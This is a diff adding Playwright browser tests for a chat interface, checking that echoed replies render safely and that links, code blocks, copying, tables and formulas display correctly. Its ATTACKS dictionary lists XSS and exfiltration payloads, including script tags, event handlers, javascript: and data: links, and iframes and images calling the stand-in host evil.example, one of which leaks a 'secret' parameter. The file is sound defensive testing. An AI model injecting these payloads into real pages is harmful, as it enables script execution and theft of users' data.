@@ -1,0 +1,118 @@
+"""What a reply may look like, and what it must not do."""
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, Request, expect
+
+from tests.browser.chat import ChatPage
+from tests.running import RunningApp
+
+MAKEFILE = "all:  build\n\t@echo  done\n\nbuild:\n\tcc -o a \\\n\t   a.c\n"
+DIFF = "--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-\told  line\n+\tnew  line\n   context\n"
+
+# The scripted provider says again what it was told, so these stand in the question and in the reply.
+ATTACKS = {
+    "script": "<script>window.attacked = 1</script>",
+    "image-error": "<img src=x onerror='window.attacked = 1'>",
+    "svg": "<svg onload='window.attacked = 1'><circle r=1></svg>",
+    "javascript-link": "[click](javascript:window.attacked=1)",
+    "html-link": "<a href='javascript:window.attacked=1'>click</a>",
+    "data-link": "[click](data:text/html,<script>window.attacked=1</script>)",
+    "iframe": "<iframe src='https://evil.example/frame'></iframe>",
+    "iframe-source": "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
+    "object": "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
+    "image": "![x](https://evil.example/leak.png?said=secret)",
+    "html-image": "<img src='https://evil.example/leak.png'>",
+    "picture": "<picture><source srcset='https://evil.example/p'><img src='//evil.example/i'></picture>",
+    "style": "<style>@import url(https://evil.example/s.css); body{background:url(//evil.example/b)}</style>",
+    "background": "<div style='background:url(https://evil.example/b.png)'>x</div>",
+    "media": "<video src='https://evil.example/v'></video><audio src='//evil.example/a' autoplay></audio>",
+    "base": "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/l.css'>",
+    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
+    "mathml": "<math><mtext><script>window.attacked=1</script></mtext></math>",
+    "details": "<details open ontoggle='window.attacked=1'><summary>x</summary></details>",
+    "title": "<img alt=\"x' onerror='window.attacked=1\" src=x>",
+}
+
+
+@pytest.fixture
+def outside(chat: ChatPage, app: RunningApp) -> Iterator[list[str]]:
+    """The addresses elsewhere that the page asked for and that nothing in the page held back."""
+    asked: dict[Request, str] = {}
+    chat.page.on(
+        "request",
+        lambda request: (
+            None
+            if request.url.startswith((app.url, "data:", "blob:"))
+            else asked.update({request: request.url})
+        ),
+    )
+    chat.page.on("requestfailed", lambda request: asked.pop(request) if request.failure == "csp" else None)
+    left: list[str] = []
+    yield left
+    left += asked.values()
+    assert left == []
+
+
+def attacked(page: Page) -> bool:
+    return bool(page.evaluate("Boolean(window.attacked)"))
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
+def test_a_reply_runs_nothing_and_fetches_nothing(
+    chat: ChatPage, outside: list[str], app: RunningApp, attack: str
+) -> None:
+    chat.say(f"{attack} end")
+    expect(chat.replies.last).to_contain_text("end")
+    for link in chat.page.locator("#chatbot .message a").all():
+        assert not (link.get_attribute("href") or "").lower().startswith(("javascript:", "data:"))
+    for summary in chat.page.locator("#chatbot summary").all():
+        summary.click()
+    chat.say("still here")
+    assert not attacked(chat.page)
+    assert chat.page.url.startswith(app.url)
+    chat.reload()
+    assert not attacked(chat.page)
+
+
+def test_a_form_in_a_reply_cannot_be_sent_elsewhere(chat: ChatPage) -> None:
+    chat.say("<form action='https://evil.example/f' method=post><button id=bait>go</button></form> end")
+    click = "setTimeout(() => document.querySelectorAll('#bait').forEach((bait) => bait.click()))"
+    with chat.page.expect_console_message(lambda message: "form-action" in message.text) as refusal:
+        chat.page.evaluate(click)
+    assert "evil.example" in refusal.value.text
+
+
+def test_a_link_can_be_followed_into_a_new_tab(chat: ChatPage) -> None:
+    chat.say("[Gradio](https://www.gradio.app/docs)")
+    link = chat.replies.get_by_role("link", name="Gradio")
+    expect(link).to_have_attribute("href", "https://www.gradio.app/docs")
+    expect(link).to_have_attribute("target", "_blank")
+    assert "noopener" in (link.get_attribute("rel") or "")
+
+
+@pytest.mark.parametrize(("language", "code"), [("make", MAKEFILE), ("diff", DIFF)], ids=["make", "diff"])
+def test_code_is_shown_to_the_character(chat: ChatPage, language: str, code: str) -> None:
+    chat.say(f"see\n```{language}\n{code}```\nend")
+    shown = chat.replies.locator("pre code")
+    expect(shown).to_be_visible()
+    assert shown.text_content() == code
+    chat.reload()
+    assert chat.replies.locator("pre code").text_content() == code
+
+
+def test_copying_a_reply_copies_its_text_to_the_character(chat: ChatPage, app: RunningApp) -> None:
+    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=app.url)
+    chat.say(f"   leading\n\n```make\n{MAKEFILE}```")
+    chat.page.get_by_role("button", name="Copy message").last.click()
+    copied = chat.page.evaluate("navigator.clipboard.readText()")
+    assert copied == f"You said:    leading\n\n```make\n{MAKEFILE}```"
+
+
+def test_tables_and_formulas_are_drawn_and_prices_are_not(chat: ChatPage) -> None:
+    chat.say("x\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2$ and \\(y\\) and \\[z\\] and $$w$$ for $5 or $6")
+    reply = chat.replies.last
+    expect(reply.get_by_role("cell", name="2")).to_be_visible()
+    expect(reply.locator(".katex")).to_have_count(4)
+    expect(reply).to_contain_text("for $5 or $6")
